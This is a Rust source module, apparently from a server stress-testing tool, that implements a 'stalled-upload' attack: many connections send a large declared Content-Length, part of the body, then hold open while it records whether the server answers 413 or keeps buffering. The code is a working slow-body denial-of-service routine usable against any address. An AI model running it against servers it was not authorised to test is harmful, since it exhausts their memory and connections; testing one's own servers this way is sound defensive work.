//! `stalled-upload`: each connection POSTs with a large declared `Content-Length`, sends
//! part of the body as fast as the server takes it, then stalls with the connection open.
//!
//! A server that checks the declared length answers 413 before reading the body; one that
//! buffers bodies up to a per-request limit holds `connections × sent` bytes for as long as
//! the clients stall, with no bound across connections.

use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::raw::{Outcome, Rows, await_status, secs, short_error, spread, tally};

/// The longest the body part may take to send.
const WRITE_LIMIT: Duration = Duration::from_secs(60);
/// Bytes per write.
const CHUNK: usize = 64 * 1024;

/// What one connection saw.
struct Conn {
    outcome: Outcome,
    sent: u64,
    sent_at: Duration,
    write_error: Option<String>,
}

/// Run the attack and return its rows.
pub async fn run(
    addr: &str,
    path: &str,
    connections: usize,
    send: u64,
    declared: u64,
    duration: u64,
) -> Rows {
    let start = Instant::now();
    let stall = Duration::from_secs(duration);
    let tasks: Vec<_> = (0..connections)
        .map(|_| {
            let (addr, path) = (addr.to_owned(), path.to_owned());
            tokio::spawn(async move { one(&addr, &path, send, declared, stall, start).await })
        })
        .collect();
    let mut conns = Vec::new();
    for task in tasks {
        if let Ok(conn) = task.await {
            conns.push(conn);
        }
    }
    let mut rows = Rows::default();
    rows.push(
        "sizes",
        format!(
            "{connections} connections, Content-Length {declared}, {:.1} MiB sent each, then {duration} s stalled",
            send as f64 / 1048576.0
        ),
    );
    let total: u64 = conns.iter().map(|c| c.sent).sum();
    rows.push(
        "body bytes written (all connections)",
        format!("{:.1} MiB", total as f64 / 1048576.0),
    );
    let mut sent_at: Vec<f64> = conns.iter().map(|c| c.sent_at.as_secs_f64()).collect();
    rows.push("body part sent by", spread(&mut sent_at));
    rows.push(
        "write errors",
        tally(conns.iter().filter_map(|c| c.write_error.clone())),
    );
    rows.push("outcomes", tally(conns.iter().map(|c| c.outcome.label())));
    let mut at: Vec<f64> = conns
        .iter()
        .filter_map(|c| c.outcome.at())
        .map(|d| d.as_secs_f64())
        .collect();
    rows.push("outcome times (since the attack began)", spread(&mut at));
    rows.push("attack lasted", secs(start.elapsed()));
    rows
}

/// One connection: headers, `send` bytes of body, then a stall of `stall`.
async fn one(
    addr: &str,
    path: &str,
    send: u64,
    declared: u64,
    stall: Duration,
    start: Instant,
) -> Conn {
    let failed = |e: String| Conn {
        outcome: Outcome::Failed(start.elapsed(), e),
        sent: 0,
        sent_at: start.elapsed(),
        write_error: None,
    };
    let stream = match tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(addr)).await
    {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => return failed(format!("connect: {}", short_error(&e))),
        Err(_) => return failed("connect: timeout".to_owned()),
    };
    let (mut rd, mut wr) = stream.into_split();
    let far = start + WRITE_LIMIT + stall + Duration::from_secs(5);
    let mut reader = tokio::spawn(async move { await_status(&mut rd, start, far).await });
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\n\
         Accept: application/json, text/event-stream\r\nContent-Length: {declared}\r\n\r\n"
    );
    let chunk = vec![b' '; CHUNK];
    let mut sent = 0u64;
    let mut write_error = None;
    let write = async {
        wr.write_all(head.as_bytes())
            .await
            .map_err(|e| short_error(&e))?;
        while sent < send && !reader.is_finished() {
            let n = (send - sent).min(CHUNK as u64) as usize;
            wr.write_all(&chunk[..n])
                .await
                .map_err(|e| short_error(&e))?;
            sent += n as u64;
        }
        Ok::<(), String>(())
    };
    match tokio::time::timeout(WRITE_LIMIT, write).await {
        Ok(Ok(())) => {}
        Ok(Err(e)) => write_error = Some(e),
        Err(_) => write_error = Some(format!("body not taken within {} s", WRITE_LIMIT.as_secs())),
    }
    let sent_at = start.elapsed();
    // Stall: the connection stays open, and the reader waits for an answer.
    let outcome = match tokio::time::timeout(stall, &mut reader).await {
        Ok(Ok(outcome)) => outcome,
        Ok(Err(_)) => Outcome::Failed(start.elapsed(), "reader task failed".to_owned()),
        Err(_) => {
            reader.abort();
            Outcome::Held
        }
    };
    drop(wr);
    Conn {
        outcome,
        sent,
        sent_at,
        write_error,
    }
}
